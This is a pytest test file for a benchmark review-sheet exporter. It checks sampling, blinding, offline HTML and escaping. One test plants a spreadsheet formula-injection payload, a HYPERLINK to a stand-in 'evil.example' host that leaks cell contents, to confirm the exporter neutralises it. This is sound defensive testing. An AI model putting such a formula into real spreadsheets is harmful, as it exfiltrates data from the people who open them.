"""`rubric-engine review export`: stratified, deterministic, blind, self-contained, escaped."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest

from agree_runs import BY_ID, EXE, HOSTILE, ROWS

pytestmark = pytest.mark.slow


def run(*args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([EXE, *args], capture_output=True, text=True, timeout=120, cwd=cwd)


@pytest.fixture(scope="module")
def sheet(review_runs: list[Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("sheet")
    res = run("review", "export", *map(str, review_runs), "n=40", "seed=0", "stratify=[ability,subset]", f"out={out}")
    assert res.returncode == 0, res.stderr
    assert "review sheet S" in res.stdout
    return out


class Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: Counter = Counter()
        self.text: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.items: list[dict[str, str | None]] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags[tag] += 1
        self.attrs += attrs
        self._in_script = tag == "script"
        if tag == "li":
            self.items.append(dict(attrs))

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False

    def handle_data(self, data: str) -> None:
        if not self._in_script:
            self.text.append(data)


def read_sheet(path: Path) -> list[dict[str, str]]:
    """review.csv's rows as a spreadsheet reads them (its dialogue and reply cells span several lines)."""
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))


def parse(path: Path) -> Page:
    p = Page()
    p.feed(path.read_text(encoding="utf-8"))
    return p


def test_files_sheet_id_and_csv(sheet: Path) -> None:
    meta = json.loads((sheet / "sheet.json").read_text(encoding="utf-8"))
    raw = (sheet / "review.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 (Chinese) correctly
    rows = read_sheet(sheet / "review.csv")
    assert list(rows[0]) == ["sheet_id", "item_key", "question_id", "dialogue", "reply", "criterion_index", "criterion",
                             "weight", "met", "rater", "note"]
    assert len(rows) == meta["n"] == 40 == len(set(r["item_key"] for r in rows))
    assert {r["sheet_id"] for r in rows} == {meta["sheet_id"]}
    page = parse(sheet / "review.html")
    assert [i["data-key"] for i in page.items] == [r["item_key"] for r in rows]
    assert f'data-sheet="{meta["sheet_id"]}"' in (sheet / "review.html").read_text(encoding="utf-8")
    by_id = {r["question_id"]: r for r in ROWS}
    for r in rows:  # the index is samples.jsonl's 1-based criteria[].index into the benchmark's rubric
        assert by_id[r["question_id"]]["rubric"][int(r["criterion_index"]) - 1]["content"] == r["criterion"]
        # every row carries the question's dialogue and the reply under review: a spreadsheet rater needs nothing else
        turns = by_id[r["question_id"]]["dialogue"]
        assert r["dialogue"].count("\n\n") == len(turns) - 1
        assert all(t["content"] in r["dialogue"] for t in turns) and r["dialogue"].startswith("User (")
        assert r["reply"].startswith("REPLY[") and r["question_id"] in r["reply"]


def test_stratified_and_deterministic(review_runs: list[Path], sheet: Path, tmp_path: Path) -> None:
    meta = json.loads((sheet / "sheet.json").read_text(encoding="utf-8"))
    labels = {r["question_id"] + "#" + r["criterion_index"]: r for r in csv.DictReader(
        (sheet / "review.csv").read_text(encoding="utf-8-sig").splitlines())}
    by_id = {r["question_id"]: r for r in ROWS}
    seen = {by_id[k.split("#")[0]]["rubric"][int(k.split("#")[1]) - 1]["dimension"] for k in labels}
    all_labels = {it["dimension"] for r in ROWS for it in r["rubric"]}
    assert seen == all_labels  # 40 items over 16 labels: every ability (and the rule) is represented
    again = run("review", "export", *map(str, review_runs), "n=40", "seed=0", f"out={tmp_path / 'a'}")
    other = run("review", "export", *map(str, review_runs), "n=40", "seed=1", f"out={tmp_path / 'b'}")
    assert again.returncode == 0 and other.returncode == 0
    assert json.loads((tmp_path / "a" / "sheet.json").read_text())["items"] == meta["items"]
    assert json.loads((tmp_path / "b" / "sheet.json").read_text())["sheet_id"] != meta["sheet_id"]


def test_page_is_blind_self_contained_and_cjk_ready(sheet: Path) -> None:
    html = (sheet / "review.html").read_text(encoding="utf-8")
    assert "JUDGE-REASONING" not in html  # the judge's reasoning
    assert not re.search(r"\bhit\b|verdict|cand_[abc]", html)  # nor its verdicts, nor which model replied
    assert "@font-face" in html and html.count("url(data:font/") == 1  # the CJK glyphs embedded, as data
    assert not re.search(r"https?:|//[\w.-]+\.\w|@import|url\(", html.replace("url(data:font/", ""))  # nothing fetched
    page = parse(sheet / "review.html")  # the page's script and the font's re-layout script (report/fonts.py)
    assert page.tags["script"] == 2 and page.tags["link"] == 0 and page.tags["img"] == 0
    assert not [v for k, v in page.attrs if k in ("src", "href")]
    assert "PingFang SC" in html and "Noto Sans CJK SC" in html
    assert html.count('data-v="met"') == html.count('data-v="not_met"') == html.count('data-v="unsure"') == 40


def test_hostile_reply_renders_as_text(review_runs: list[Path], tmp_path: Path) -> None:
    # unit=reply, n=15 on cand_a alone: every reply, including the one carrying HTML and </script>
    res = run("review", "export", str(review_runs[0]), "n=15", "unit=reply", "stratify=subset", f"out={tmp_path}")
    assert res.returncode == 0, res.stderr
    page = parse(tmp_path / "review.html")
    assert page.tags["script"] == 2 and page.tags["img"] == 0 and page.tags["b"] == 0  # page's, font's re-layout
    assert any(HOSTILE in t for t in page.text)
    rows = read_sheet(tmp_path / "review.csv")
    assert len(rows) == sum(len(r["rubric"]) for r in ROWS)  # whole replies: every criterion of all 15
    assert any(HOSTILE in r["reply"] for r in rows)  # the same text in the sheet, a cell like any other


def test_sheet_cells_cannot_run_as_formulas(review_runs: list[Path], tmp_path: Path) -> None:
    """A reply or a dialogue turn that a spreadsheet would run is written guarded and reads back as written."""
    run_dir = tmp_path / "run"
    shutil.copytree(review_runs[0], run_dir)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    first = ROWS[0]["question_id"]
    for name, edit in (("samples.jsonl", lambda r: {**r, "response": evil} if r["id"] == first else r),
                       ("answers.jsonl", lambda r: {**r, "dialogue": [{**r["dialogue"][0], "content": "@SUM(A1:A9)"},
                                                                       *r["dialogue"][1:]]} if r.get("question_id") == first
                        else r)):
        path = run_dir / name
        rows = [edit(json.loads(x)) for x in path.read_text(encoding="utf-8").splitlines()]
        path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    res = run("review", "export", str(run_dir), "n=15", "unit=reply", "stratify=subset", f"out={tmp_path / 'out'}")
    assert res.returncode == 0, res.stderr
    rows = [r for r in read_sheet(tmp_path / "out" / "review.csv") if r["question_id"] == first]
    assert rows and all(r["reply"] == "'" + evil for r in rows)  # a leading quote: text, not a formula
    assert all("@SUM(A1:A9)" in r["dialogue"] and not r["dialogue"].startswith(("=", "+", "-", "@")) for r in rows)
    from rubric_engine.text.csvcells import cell_value

    assert cell_value(rows[0]["reply"]) == evil and len(BY_ID[first]["rubric"]) == len(rows)


def test_bad_arguments_one_line_exit_2(review_runs: list[Path], tmp_path: Path) -> None:
    res = run("review", "--help")
    assert res.returncode == 0 and "usage: rubric-engine review export" in res.stdout
    for args, needle in ((["stratify=colour"], "cannot stratify by 'colour'"), (["colour=red"], "unknown option 'colour'"),
                         (["n=abc"], "not a whole number"), (["unit=reply", "stratify=ability"], "varies within a reply")):
        res = run("review", "export", str(review_runs[0]), *args, f"out={tmp_path}")
        assert res.returncode == 2, (args, res.stderr)
        assert needle in res.stderr and "Traceback" not in res.stderr
        assert res.stderr.startswith("rubric-engine: error: review export:") and len(res.stderr.splitlines()) == 1
    res = run("review", "export", str(tmp_path / "nowhere"))
    assert res.returncode == 2 and "not a directory" in res.stderr


def test_a_dialogue_written_as_plain_text_is_on_the_sheet(review_runs: list[Path], tmp_path: Path) -> None:
    """A row whose dialogue is one plain string (a single-turn prompt, as the loader reads CSV rows) shows it on the
    sheet as the user's turn: a rater never labels a reply without its question (the column was blank)."""
    run_dir = tmp_path / "run"
    shutil.copytree(review_runs[0], run_dir)
    first = ROWS[0]["question_id"]
    path = run_dir / "answers.jsonl"
    rows = [json.loads(x) for x in path.read_text(encoding="utf-8").splitlines()]
    rows = [{**r, "dialogue": "Where is my parcel? It was due on Monday."} if r.get("question_id") == first else r
            for r in rows]
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    res = run("review", "export", str(run_dir), "n=15", "unit=reply", "stratify=subset", f"out={tmp_path / 'out'}")
    assert res.returncode == 0, res.stderr
    got = [r["dialogue"] for r in read_sheet(tmp_path / "out" / "review.csv") if r["question_id"] == first]
    assert got and all("Where is my parcel? It was due on Monday." in d for d in got)
